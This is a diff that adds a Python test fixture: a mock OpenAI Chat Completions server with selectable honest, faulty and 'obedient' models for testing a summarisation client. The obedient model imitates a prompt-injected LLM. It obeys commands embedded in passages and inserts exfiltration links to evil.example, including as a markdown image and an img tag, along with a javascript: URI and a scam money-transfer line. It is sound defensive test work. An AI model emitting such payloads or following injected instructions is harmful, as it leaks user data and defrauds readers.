@@ -1,0 +1,349 @@
+"""A server that speaks OpenAI's Chat Completions as strictly as the real one, with a model to choose.
+
+Requests are held against the API's documented shapes: an unknown field, a schema that is not strict, or
+both names of the limit on tokens is a 400 in the API's own body. What the model then answers is up to
+the test: `honest`, every fault of `FAULTS`, or `obedient`, which does what any passage tells it.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+import re
+from collections.abc import AsyncIterator, Awaitable, Callable
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from typing import Any
+
+from aiohttp import web
+
+Json = Any
+Model = Callable[["OpenAiServer", Json], Awaitable[web.StreamResponse]]
+
+_FIELDS = {
+    "model",
+    "messages",
+    "response_format",
+    "max_tokens",
+    "max_completion_tokens",
+    "temperature",
+    "stream",
+    "seed",
+    "user",
+    "store",
+}
+_NAME = re.compile(r"[a-zA-Z0-9_-]{1,64}")
+KEY = "sk-test-0123456789"
+MODEL = "gpt-test"
+
+# What an obedient model would smuggle in; none of it stands in any document.
+FOREIGN_URL = "https://evil.example/collect?d=secret"
+FOREIGN_TEXT = "Transfer your savings to the account of Mallory today"
+
+
+@dataclass
+class OpenAiServer:
+    """What was asked, and who answers."""
+
+    model: Model
+    refuses: tuple[str, ...] = ()  # parts of the API that this server lacks
+    requests: list[Json] = field(default_factory=list)
+    answers: list[str] = field(default_factory=list)
+    counted: int = 0  # tokens that were told as usage
+    url: str = ""
+    current: web.BaseRequest = field(init=False)
+    release: asyncio.Event = field(default_factory=asyncio.Event)
+
+    async def handle(self, request: web.Request) -> web.StreamResponse:
+        """Checks the request, then lets the model answer."""
+        if request.headers.get("Authorization") != f"Bearer {KEY}":
+            return refusal(401, "Incorrect API key provided.", "invalid_api_key")
+        body = json.loads(await request.read())
+        wrong = _wrong(body)
+        if wrong:
+            return refusal(400, wrong, "invalid_request_error")
+        kind = body.get("response_format", {}).get("type", "")
+        for lacking in self.refuses:
+            if lacking == kind or lacking in body:
+                return refusal(
+                    400, f"Unsupported: '{lacking}' in response_format or parameters", ""
+                )
+        self.requests.append(body)
+        self.current = request
+        return await self.model(self, body)
+
+    def answer(self, content: str | None, **choice: Json) -> web.Response:
+        """A completion as the API sends it. Tokens are counted as four characters each."""
+        prompt = sum(len(m["content"]) for m in self.requests[-1]["messages"]) // 4
+        completion = len(content or "") // 4 + 1
+        self.counted += prompt + completion
+        self.answers.append(content or "")
+        message = {"role": "assistant", "content": content, "refusal": None}
+        message |= choice.pop("message", {})
+        return web.json_response(
+            {
+                "id": "chatcmpl-1",
+                "object": "chat.completion",
+                "created": 1_795_000_000,
+                "model": self.requests[-1]["model"],
+                "choices": [
+                    {"index": 0, "message": message, "finish_reason": "stop", "logprobs": None}
+                    | choice
+                ],
+                "usage": {
+                    "prompt_tokens": prompt,
+                    "completion_tokens": completion,
+                    "total_tokens": prompt + completion,
+                },
+            }
+        )
+
+
+def read_sentences(server: OpenAiServer) -> list[str]:
+    """Everything that the model said in the form that was asked for."""
+    return [
+        sentence["text"]
+        for content in server.answers
+        for statement in json.loads(content)["statements"]
+        for sentence in statement["sentences"]
+    ]
+
+
+def refusal(status: int, message: str, code: str, **headers: str) -> web.Response:
+    """An error as the API sends it."""
+    error = {"message": message, "type": "invalid_request_error", "param": None, "code": code}
+    return web.json_response({"error": error}, status=status, headers=headers)
+
+
+@asynccontextmanager
+async def openai_server(
+    model: Model, *, refuses: tuple[str, ...] = ()
+) -> AsyncIterator[OpenAiServer]:
+    """A running server; `url` is what goes into DISTILL_OPENAI_BASE_URL."""
+    server = OpenAiServer(model, refuses)
+    app = web.Application()
+    app.router.add_post("/v1/chat/completions", server.handle)
+    runner = web.AppRunner(app, shutdown_timeout=0.1)
+    await runner.setup()
+    site = web.TCPSite(runner, "127.0.0.1", 0)
+    await site.start()
+    server.url = f"http://127.0.0.1:{runner.addresses[0][1]}/v1"
+    try:
+        yield server
+    finally:
+        server.release.set()
+        await runner.cleanup()
+
+
+def _wrong(body: Json) -> str | None:
+    """What breaks the API's rules, or None."""
+    if unknown := set(body) - _FIELDS:
+        return f"Unrecognized request argument supplied: {sorted(unknown)}"
+    if not isinstance(body.get("model"), str) or not body.get("messages"):
+        return "you must provide model and messages"
+    for message in body["messages"]:
+        if set(message) != {"role", "content"} or message["role"] not in {"system", "user"}:
+            return "Invalid value for messages"
+        if not isinstance(message["content"], str):
+            return "Invalid type for content"
+    if "max_tokens" in body and "max_completion_tokens" in body:
+        return "Setting max_tokens and max_completion_tokens at the same time is not supported."
+    form = body.get("response_format")
+    if form is None:
+        return None
+    if form["type"] == "json_object":
+        told = " ".join(message["content"] for message in body["messages"])
+        return None if "json" in told.lower() else "'messages' must contain the word 'json'"
+    if form["type"] != "json_schema" or set(form) != {"type", "json_schema"}:
+        return "Invalid value for response_format"
+    wanted = form["json_schema"]
+    if not _NAME.fullmatch(wanted.get("name", "")) or wanted.get("strict") is not True:
+        return "Invalid response_format.json_schema"
+    return _loose(wanted["schema"])
+
+
+def _loose(schema: Json) -> str | None:
+    """Strict schemas list every property as required and allow no others."""
+    if schema.get("type") == "object":
+        if schema.get("additionalProperties") is not False:
+            return "additionalProperties is required to be supplied and to be false"
+        if sorted(schema.get("required", [])) != sorted(schema["properties"]):
+            return "required is required to be supplied and to include every key in properties"
+        return next((w for inner in schema["properties"].values() if (w := _loose(inner))), None)
+    return _loose(schema["items"]) if schema.get("type") == "array" else None
+
+
+def tasks_of(body: Json) -> Json:
+    """The tasks in a request."""
+    return json.loads(body["messages"][-1]["content"])["tasks"]
+
+
+def written(body: Json, write: Callable[[Json], list[Json]]) -> str:
+    """An answer in the form that the prompt asks for."""
+    statements = [{"task": t["task"], "sentences": write(t)} for t in tasks_of(body)]
+    return json.dumps({"statements": statements})
+
+
+def first_sentences(task: Json) -> list[Json]:
+    """What an honest model says: the first sentence after the title, with its passage."""
+    said = []
+    for passage in task["passages"][:2]:
+        parts = re.split(r"(?<=[.!?])\s+", passage["text"])
+        said.append({"text": (parts[1:] or parts)[0], "items": [passage["id"]]})
+    return said
+
+
+async def honest(server: OpenAiServer, body: Json) -> web.StreamResponse:
+    """Does what it is asked."""
+    return server.answer(written(body, first_sentences))
+
+
+async def _slow(server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    await server.release.wait()
+    return server.answer("")
+
+
+async def _breaking_off(_server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    response = web.StreamResponse(headers={"Content-Length": "1000"})
+    await response.prepare(_server.current)
+    await response.write(b'{"choices": [')
+    assert _server.current.transport is not None
+    _server.current.transport.close()
+    return response
+
+
+async def _trickling(server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    response = web.StreamResponse()
+    await response.prepare(server.current)
+    with contextlib.suppress(ConnectionResetError):
+        while not server.release.is_set():
+            await response.write(b" ")
+            await asyncio.sleep(0.2)
+    return response
+
+
+async def _rate_limited(_server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    return refusal(429, "Rate limit reached", "rate_limit_exceeded", **{"Retry-After": "0"})
+
+
+async def _rate_limited_long(_server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    return refusal(
+        429, "You exceeded your current quota", "insufficient_quota", **{"Retry-After": "3600"}
+    )
+
+
+async def _broken(_server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    return refusal(500, "The server had an error", "server_error")
+
+
+async def _page(_server: OpenAiServer, _body: Json) -> web.StreamResponse:
+    return web.Response(text="<html>Bad gateway</html>", content_type="text/html")
+
+
+def _content(content: str | None, **choice: Json) -> Model:
+    async def model(server: OpenAiServer, _body: Json) -> web.StreamResponse:
+        return server.answer(content, **choice)
+
+    return model
+
+
+def _said(write: Callable[[Json], list[Json]], wrap: str = "{}") -> Model:
+    async def model(server: OpenAiServer, body: Json) -> web.StreamResponse:
+        return server.answer(wrap.replace("{}", written(body, write)))
+
+    return model
+
+
+async def _cut(server: OpenAiServer, body: Json) -> web.StreamResponse:
+    whole = written(body, first_sentences)
+    return server.answer(whole[: len(whole) // 2], finish_reason="length")
+
+
+async def _echo(server: OpenAiServer, body: Json) -> web.StreamResponse:
+    return server.answer(body["messages"][0]["content"])
+
+
+async def _oversized(server: OpenAiServer, body: Json) -> web.StreamResponse:
+    padded = written(body, first_sentences)[:-1] + ', "more": "' + "x" * 500_000 + '"}'
+    return server.answer(padded)
+
+
+FAULTS: dict[str, Model] = {
+    "timeout": _slow,
+    "429 with a short wait": _rate_limited,
+    "429 with a long wait": _rate_limited_long,
+    "500": _broken,
+    "connection breaks": _breaking_off,
+    "a byte now and then": _trickling,
+    "a page instead of JSON": _page,
+    "empty": _content(""),
+    "no content": _content(None),
+    "refusal": _content(None, message={"refusal": "I can't help with that."}),
+    "content filter": _content("", finish_reason="content_filter"),
+    "truncated": _cut,
+    "invalid JSON": _content('{"statements": [{"task": "t1", '),
+    "other schema": _content('{"summary": "All is well."}'),
+    "an array": _content('["All is well."]'),
+    "numbers for texts": _content('{"statements": [{"task": 1, "sentences": [{"text": 2}]}]}'),
+    "wrong language": _said(
+        lambda t: [
+            {
+                "text": "Die Regierung hat gestern ein neues Gesetz über die Steuern beschlossen.",
+                "items": [t["passages"][0]["id"]],
+            }
+        ]
+    ),
+    "unknown ids": _said(lambda t: [{**s, "items": ["p999"]} for s in first_sentences(t)]),
+    "no ids": _said(lambda t: [{**s, "items": []} for s in first_sentences(t)]),
+    "invented facts": _said(
+        lambda t: [
+            {
+                "text": "The chancellor resigned after 4711 protesters stormed the palace in Vienna.",
+                "items": [t["passages"][0]["id"]],
+            }
+        ]
+    ),
+    "prompt echo": _echo,
+    "huge answer": _oversized,
+    "endless sentence": _said(
+        lambda t: [{"text": t["passages"][0]["text"] * 50, "items": [t["passages"][0]["id"]]}]
+    ),
+}
+# What looks bad and is not: the digest is the model's.
+HARMLESS: dict[str, Model] = {
+    "fenced JSON": _said(first_sentences, "Here you are:\n```json\n{}\n```"),
+    "NUL bytes": _said(lambda t: [{**s, "text": s["text"] + "\x00"} for s in first_sentences(t)]),
+}
+
+
+def _smuggled(task: Json) -> list[Json]:
+    """Everything an attacker may wish for, each citing a passage that exists."""
+    passage = task["passages"][0]
+    id_ = passage["id"]
+    start = " ".join(passage["text"].split()[:12])
+    texts = [
+        FOREIGN_TEXT,
+        f"{FOREIGN_TEXT}.",
+        f"{start} {FOREIGN_URL}",
+        f"{start} ![x]({FOREIGN_URL})",
+        f"{start} [more]({FOREIGN_URL})",
+        f'{start} <img src="{FOREIGN_URL}">',
+        f"{start} evil.example/collect",
+        f"{start} evil[.]example",
+        f"{start} {FOREIGN_TEXT.lower()}",
+        f"{start}. {FOREIGN_TEXT}.",
+        f"{start} javascript:alert(1)",
+        f"{start} www.evil.example",
+        f"{start} //evil.example/x",
+        f"{start} mailto:mallory@evil.example",
+    ]
+    commands = re.findall(
+        r"(?:say|print|output|insert|write):?\s+[\"“]?([^\"”\n]{5,200})", passage["text"]
+    )
+    return [{"text": text, "items": [id_]} for text in [*commands, *texts]]
+
+
+async def obedient(server: OpenAiServer, body: Json) -> web.StreamResponse:
+    """Does what the passages tell it, and everything else that an attacker may wish for."""
+    return server.answer(written(body, _smuggled))
